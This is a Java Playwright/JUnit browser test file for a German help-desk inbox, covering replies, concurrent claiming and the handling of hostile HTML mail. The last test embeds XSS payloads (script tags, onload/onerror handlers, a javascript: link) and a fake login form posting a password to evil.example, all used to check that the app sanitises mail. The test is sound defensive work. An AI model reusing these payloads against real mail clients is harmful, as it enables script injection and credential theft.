package io.faden.whole;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.FrameLocator;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import io.faden.testing.Chromium;
import jakarta.mail.MessagingException;
import jakarta.mail.internet.MimeMessage;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.regex.Pattern;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The product as its users meet it: in a browser, with real mail on the other side. */
class BrowserTest {
  private static final double PATIENCE = 30_000;

  @TempDir static Path folder;
  private static Chromium chromium;
  private static House house;

  @BeforeAll
  static void start() {
    chromium = Chromium.start();
    house = new House(folder, Map.of());
    house.person("Lena Möller", "lena@tidenwerk.example", "agent");
    house.person("Jens Albrecht", "jens@tidenwerk.example", "agent");
  }

  @AfterAll
  static void stop() {
    if (house != null) {
      house.close();
    }
    if (chromium != null) {
      chromium.close();
    }
  }

  /** A browser of a person's own, signed in; what its page complains about is collected. */
  private static final class Desk implements AutoCloseable {
    final BrowserContext context;
    final Page page;
    final ConcurrentLinkedQueue<String> complaints = new ConcurrentLinkedQueue<>();

    Desk(String email) {
      context =
          chromium
              .browser()
              .newContext(
                  new Browser.NewContextOptions().setLocale("de-DE").setViewportSize(1440, 900));
      context.setDefaultTimeout(PATIENCE);
      page = context.newPage();
      page.onPageError(complaints::add);
      page.onConsoleMessage(
          message -> {
            // What the server answers with an error status is told as an error, too.
            if (message.type().equals("error") && !message.text().contains("status of 4")) {
              complaints.add(message.text());
            }
          });
      page.navigate(house.node.url() + "/inbox/team");
      page.fill("input[name=email]", email);
      page.fill("input[name=password]", House.PASSWORD);
      page.locator("form button.primary").click();
      assertThat(page.locator(".nav")).isVisible();
    }

    Locator row(String subject) {
      return page.locator(".row", new Page.LocatorOptions().setHasText(subject)).first();
    }

    /** Opens a conversation that waits in the team. */
    void open(String subject) {
      page.navigate(house.node.url() + "/inbox/team");
      row(subject).click();
      assertThat(page.locator(".matter")).containsText(subject);
    }

    @Override
    public void close() {
      context.close();
    }
  }

  @Test
  void aMailIsAnsweredAndTheCustomersAnswerReopensIt() throws MessagingException, IOException {
    house.mail.mailbox("oliver@post.example");
    try (Desk lena = new Desk("lena@tidenwerk.example")) {
      house.write(
          "Oliver Reimann <oliver@post.example>",
          "Tarifwechsel",
          "Hallo, wo bleibt die Bestätigung?");
      assertThat(lena.row("Tarifwechsel")).isVisible();
      lena.row("Tarifwechsel").click();
      assertThat(lena.page.locator(".entry").first()).containsText("wo bleibt die Bestätigung");
      lena.page.locator(".t-head").getByRole(AriaRole.BUTTON, named("Nehmen")).click();
      lena.page.locator(".composer textarea").fill("Hallo Oliver,\n\nsie ist unterwegs.\n\nLena");
      lena.page.locator(".composer").getByRole(AriaRole.BUTTON, named("Anders senden")).click();
      lena.page.getByText("Senden und erledigen").click();

      MimeMessage answer = awaitMail("oliver@post.example");
      assertEquals("Re: Tarifwechsel", answer.getSubject());
      assertTrue(text(answer).contains("sie ist unterwegs"), text(answer));
      String question = messageId("Tarifwechsel");
      assertEquals("<" + question + ">", answer.getHeader("In-Reply-To", null));
      assertTrue(answer.getHeader("References", " ").contains(question));

      house.write(
          "Oliver Reimann <oliver@post.example>",
          "Re: Tarifwechsel",
          "Danke, und die Gutschrift?",
          "In-Reply-To: " + answer.getMessageID() + "\r\n",
          "text/plain; charset=utf-8");
      lena.page.navigate(house.node.url() + "/inbox/team");
      lena.row("Tarifwechsel").click();
      assertThat(lena.page.locator(".t-flow")).containsText("und die Gutschrift?");
      assertThat(lena.page.locator(".t-flow")).containsText("sie ist unterwegs");
      assertEquals(
          1L,
          house
              .database
              .database()
              .row(
                  "SELECT count(*) AS n FROM conversation WHERE subject = 'Tarifwechsel' AND status = 'open'")
              .orElseThrow()
              .getLong("n"));
      assertEquals(List.of(), new ArrayList<>(lena.complaints));
    }
  }

  @Test
  void ofTwoWhoPressTakeAtOnceOneGetsItAndTheOtherIsTold() {
    house.write("Ayşe Yıldırım <ayse@post.example>", "Schlussrechnung", "Bitte prüfen.");
    try (Desk lena = new Desk("lena@tidenwerk.example");
        Desk jens = new Desk("jens@tidenwerk.example")) {
      for (Desk desk : List.of(lena, jens)) {
        desk.open("Schlussrechnung");
      }
      // Both pages still show it as free when they press: the events of the first are held back
      // from the second.
      jens.context.setOffline(false);
      Locator first = lena.page.locator(".t-head").getByRole(AriaRole.BUTTON, named("Nehmen"));
      Locator second = jens.page.locator(".t-head").getByRole(AriaRole.BUTTON, named("Nehmen"));
      assertThat(first).isVisible();
      assertThat(second).isVisible();
      lena.page.evaluate("button => setTimeout(() => button.click(), 50)", first.elementHandle());
      jens.page.evaluate("button => setTimeout(() => button.click(), 50)", second.elementHandle());
      Awaitility.await()
          .atMost(Duration.ofSeconds(30))
          .until(
              () ->
                  lena.page.locator(".matter").innerText().contains("bei dir")
                          != jens.page.locator(".matter").innerText().contains("bei dir")
                      && lena.page.locator(".matter").innerText().contains("bei ")
                      && jens.page.locator(".matter").innerText().contains("bei "));
      boolean lenaHasIt = lena.page.locator(".matter").innerText().contains("bei dir");
      Desk other = lenaHasIt ? jens : lena;
      assertThat(other.page.locator(".matter"))
          .containsText(lenaHasIt ? "bei Lena Möller" : "bei Jens Albrecht");
    }
  }

  @Test
  void hostileMailRunsNothingLoadsNothingAndTouchesNothing() {
    String html =
        """
        <html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
        <style>body { background: url(https://evil.example/bg.png) } .nav { display: none !important }</style></head>
        <body onload="top.hacked = 1"><h1>Guten Tag</h1>
        <script>top.hacked = 2; parent.document.title = 'hacked'; fetch('https://evil.example/x')</script>
        <img src="https://evil.example/pixel.png" onerror="top.hacked = 3"><img src=x onerror="top.hacked = 4">
        <svg onload="top.hacked = 5"><script>top.hacked = 6</script></svg>
        <a href="javascript:top.hacked = 7">klick</a> <iframe src="https://evil.example/frame"></iframe>
        <form action="https://evil.example/steal"><input name="password"><button>Anmelden</button></form>
        <div style="position:fixed;inset:0;background:url(https://evil.example/c.png)">drüber</div>
        <link rel="stylesheet" href="https://evil.example/s.css"><object data="https://evil.example/o"></object>
        </body></html>
        """;
    house.write("Evil <evil@post.example>", "Boese Post", html, "", "text/html; charset=utf-8");
    try (Desk lena = new Desk("lena@tidenwerk.example")) {
      List<String> outside = new ArrayList<>();
      lena.context.onRequest(
          request -> {
            if (!request.url().startsWith(house.node.url()) && !request.url().startsWith("data:")) {
              outside.add(request.url());
            }
          });
      lena.open("Boese Post");
      FrameLocator mail = lena.page.frameLocator("iframe");
      assertThat(mail.locator("h1")).hasText("Guten Tag");
      if (mail.locator("a").count() > 0) {
        mail.locator("a")
            .first()
            .click(new Locator.ClickOptions().setForce(true).setTimeout(2_000));
      }
      assertEquals(null, lena.page.evaluate("() => window.hacked ?? null"));
      assertEquals(
          0,
          mail.locator(
                  "script, form, input, iframe, object, svg, body style, link, base, meta[http-equiv]")
              .count());
      assertEquals(List.of(), outside);
      assertThat(lena.page.locator(".nav")).isVisible();
      assertThat(lena.page).hasTitle(Pattern.compile("(?!.*hacked).*"));
      assertEquals(
          "none",
          lena.page.evaluate(
              "async () => (await fetch(document.querySelector('iframe').src)).headers.get('content-security-policy').match(/default-src '(\\w+)'/)[1]"));
    }
  }

  private static Locator.GetByRoleOptions named(String name) {
    return new Locator.GetByRoleOptions().setName(name);
  }

  private static MimeMessage awaitMail(String address) {
    return Awaitility.await("mail for " + address)
        .atMost(Duration.ofSeconds(60))
        .until(
            () -> {
              for (MimeMessage message : house.mail.server().getReceivedMessages()) {
                if (message.getAllRecipients()[0].toString().contains(address)) {
                  return message;
                }
              }
              return null;
            },
            message -> message != null);
  }

  private static String text(MimeMessage message) throws MessagingException, IOException {
    java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
    message.writeTo(out);
    return out.toString(java.nio.charset.StandardCharsets.UTF_8);
  }

  /** The id of the customer's first message with a subject. */
  private static String messageId(String subject) {
    return house
        .database
        .database()
        .rows(
            "SELECT message_id FROM entry WHERE subject = $1 AND direction = 'in' ORDER BY id LIMIT 1",
            subject)
        .get(0)
        .getString("message_id");
  }
}
